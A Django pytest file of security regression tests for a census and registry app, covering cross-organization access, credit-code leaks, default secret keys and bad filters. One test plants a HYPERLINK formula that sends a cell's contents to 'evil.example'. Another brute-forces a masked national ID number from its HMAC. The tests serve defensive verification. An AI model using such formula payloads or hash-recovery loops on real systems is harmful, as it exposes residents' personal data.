"""Hardening found in review: access across organizations, exported formulas, ID-number secrecy, bad filters."""

import io
import zipfile
from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone
from stdnum.cn import ric

from gongke.accounts.models import Membership, Role
from gongke.census import services as census
from gongke.census.models import Isolation, Resident
from gongke.registry import services as registry
from gongke.registry.models import PlaceKind

pytestmark = pytest.mark.django_db


def make_id(body: str) -> str:
    return body + ric.calc_check_digit(body + "0")


def other_compound_a(cast):
    """A second compound of chamber A, without any post guard_a is bound to."""
    compound = registry.save_place(
        kind=PlaceKind.COMPOUND, name="西城小区", organization=cast.chamber_a
    )
    household, _ = census.save_household(place=compound, room="101")
    resident, _ = census.register_resident(
        user=cast.admin_a,
        household=household,
        name="赵六",
        phone="13711112222",
        id_number=make_id("11010519800101004"),
    )
    return compound, household, resident


# --- 1. Access path -------------------------------------------------------------------------


def test_a_duty_officer_cannot_pull_a_resident_out_of_a_compound_they_do_not_guard(
    cast, client_for
):
    _compound, _household, resident = other_compound_a(cast)
    mine, _ = census.save_household(place=cast.compound_a, room="502")
    c = client_for(cast.guard_a)
    # guard_a cannot see the resident ...
    assert c.get(reverse("census:resident", args=[resident.pk])).status_code == 404
    # ... but registering the ID number at their own gate moves the record to them
    c.post(
        reverse("census:resident-new", args=[mine.pk]),
        {"name": "赵六", "id_number": make_id("11010519800101004")},
    )
    resident.refresh_from_db()
    assert resident.household.place_id != cast.compound_a.pk, "record was moved to guard's compound"


def test_a_read_only_role_over_a_record_does_not_allow_moving_it_to_another_organization(cast):
    mixed = cast.outsider_b  # org admin of chamber B ...
    Membership.objects.create(user=mixed, organization=cast.federation, role=Role.VIEWER)
    mixed._memberships_cache = None  # ... and viewer of the federation (reads chamber A)
    household_a, _ = census.save_household(place=cast.compound_a, room="501")
    resident_a, _ = census.register_resident(
        user=cast.admin_a,
        household=household_a,
        name="王伟",
        id_number=make_id("11010519491231002"),
    )
    household_b, _ = census.save_household(place=cast.compound_b, room="101")
    with pytest.raises(ValidationError):
        census.register_resident(
            user=mixed,
            household=household_b,
            name="王伟",
            id_number=make_id("11010519491231002"),
        )
    resident_a.refresh_from_db()
    assert resident_a.household.place.organization == cast.chamber_a


def test_a_duty_officer_with_any_other_membership_loses_the_post_narrowing(cast, client_for):
    _compound, _household, resident = other_compound_a(cast)
    Membership.objects.create(user=cast.guard_a, organization=cast.chamber_b, role=Role.VIEWER)
    c = client_for(cast.guard_a)
    assert c.get(reverse("census:resident", args=[resident.pk])).status_code == 404


# --- 4. Correctness -------------------------------------------------------------------------


def test_an_org_admin_can_save_their_own_organization(cast, client_for):
    c = client_for(cast.admin_a)
    url = reverse("registry:organization-edit", args=[cast.chamber_a.pk])
    page = c.get(url)
    assert page.status_code == 200
    r = c.post(
        url,
        {
            "chamber_kind": "industry",
            "parent": cast.federation.pk,
            "name": cast.chamber_a.name,
            "address": "新地址",
            "is_active": "on",
        },
    )
    assert r.status_code == 302, r.context["form"].errors


def test_merging_two_isolated_records_leaves_one_isolation_running(cast):
    household, _ = census.save_household(place=cast.compound_a, room="501")
    a, _ = census.register_resident(user=cast.admin_a, household=household, name="王伟")
    b, _ = census.register_resident(
        user=cast.admin_a, household=household, name="王伟", phone="13812345678"
    )
    start = timezone.localdate() - timedelta(days=2)
    census.start_isolation(user=cast.admin_a, resident=a, start=start)
    census.start_isolation(user=cast.admin_a, resident=b, start=start)
    census.merge_residents(user=cast.admin_a, survivor=a, duplicate=b)
    today = timezone.localdate()
    assert Isolation.objects.filter(resident=a).running_on(today).count() == 1


def test_a_census_import_refuses_a_phone_longer_than_the_field(cast):
    data = ("楼栋,单元,房号,姓名,联系电话\n1,1,101,王伟,13812345678 / 13987654321\n").encode()
    with pytest.raises(census.ImportFailed):
        census.import_households(
            user=cast.admin_a, place=cast.compound_a, data=data, filename="a.csv"
        )
    assert not Resident.objects.filter(phone__startswith="13812345678 /").exists()


def test_a_post_created_through_the_api_needs_a_compound(cast, api_for):
    r = api_for(cast.admin_a).post(
        "/api/v1/registry/places",
        {"kind": "post", "name": "无主卡口", "organization_id": cast.chamber_a.pk},
        content_type="application/json",
    )
    assert r.status_code == 422, r.content


def test_list_filters_with_a_bad_id_answer_normally(cast, client_for):
    c = client_for(cast.admin_a)
    c.raise_request_exception = False
    for url in (
        "/registry/people/?organization=abc",
        "/registry/places/?township=x",
        "/registry/?parent=x",
        "/census/isolations/?place=x",
    ):
        assert c.get(url).status_code in (200, 400), url
    fed = client_for(cast.fed_admin)
    fed.raise_request_exception = False
    assert fed.get("/accounts/audit/?since=yesterday").status_code in (200, 400)


# --- 2. Personal data / exports -------------------------------------------------------------


def test_an_exported_note_is_text_not_a_formula(cast, client_for):
    household, _ = census.save_household(place=cast.compound_a, room="501")
    census.register_resident(
        user=cast.guard_a,
        household=household,
        name="王伟",
        note='=HYPERLINK("http://evil.example/?"&E2,"点击")',
    )
    r = client_for(cast.admin_a).get(reverse("census:area-export", args=[cast.compound_a.pk]))
    sheet = zipfile.ZipFile(io.BytesIO(r.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet, "the note became a live formula in the export"


def test_the_import_does_not_reveal_who_holds_a_credit_code_elsewhere(cast, client_for):
    from gongke.registry.imports import ImportRejected, import_file

    data = f"企业名称,统一社会信用代码,所属商会\n新公司,{cast.a1.credit_code},南湖镇商会\n".encode()
    with pytest.raises(ImportRejected) as exc:
        import_file(cast.outsider_b, "organizations", data, "x.csv")
    assert all(cast.a1.name not in e.message for e in exc.value.errors)


def test_the_deploy_check_refuses_the_public_default_secret_key(tmp_path):
    import os
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if k not in {"SECRET_KEY", "ID_HASH_KEY"}}
    env.pop("DJANGO_SETTINGS_MODULE", None)
    env.update(
        DEBUG="0", SECURE="1", ALLOWED_HOSTS="gongke.example.org", GONGKE_DATA_DIR=str(tmp_path)
    )
    result = subprocess.run(
        [sys.executable, "-m", "gongke.cli", "check", "--deploy", "--fail-level", "WARNING"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode != 0, "production with the published SECRET_KEY/ID_HASH_KEY passes"


def test_with_the_default_key_a_stored_id_number_is_recovered_from_hash_and_mask(cast):
    """masked keeps 6 + 4 digits; only the birth date is unknown: ~36,500 HMACs."""
    from datetime import date

    from gongke.lib.idnumbers import hash_id_number

    number = make_id("11010519800101004")
    household, _ = census.save_household(place=cast.compound_a, room="501")
    r, _ = census.register_resident(
        user=cast.admin_a, household=household, name="王伟", id_number=number
    )
    head, tail = r.id_number_masked[:6], r.id_number_masked[-4:]
    d, found = date(1900, 1, 1), None
    while d.year < 2030 and found is None:
        guess = f"{head}{d:%Y%m%d}{tail}"
        if hash_id_number(guess) == r.id_number_hash:
            found = guess
        d += timedelta(days=1)
    assert found is None, f"recovered {found} from the database alone (ID_HASH_KEY is public)"


def test_a_new_return_isolates_even_when_an_old_isolation_was_never_signed_off(cast, client_for):
    household, _ = census.save_household(place=cast.compound_a, room="501")
    r, _ = census.register_resident(user=cast.admin_a, household=household, name="王伟")
    census.start_isolation(
        user=cast.admin_a, resident=r, start=timezone.localdate() - timedelta(days=40)
    )  # ran out 26 days ago; nobody pressed "end"
    client_for(cast.admin_a).post(
        reverse("census:return-new", args=[r.pk]),
        {"from_place": "武汉", "returned_on": timezone.localdate().isoformat(), "isolate": "on"},
    )
    assert Isolation.objects.filter(resident=r).running_on(timezone.localdate()).exists()


def test_the_api_cannot_register_a_credit_code_twice_by_changing_its_case(cast, api_for):
    r = api_for(cast.admin_a).post(
        "/api/v1/registry/organizations",
        {
            "kind": "enterprise",
            "parent_id": cast.chamber_a.pk,
            "name": "另一家公司",
            "credit_code": cast.a1.credit_code.lower(),
        },
        content_type="application/json",
    )
    assert r.status_code == 422, r.content
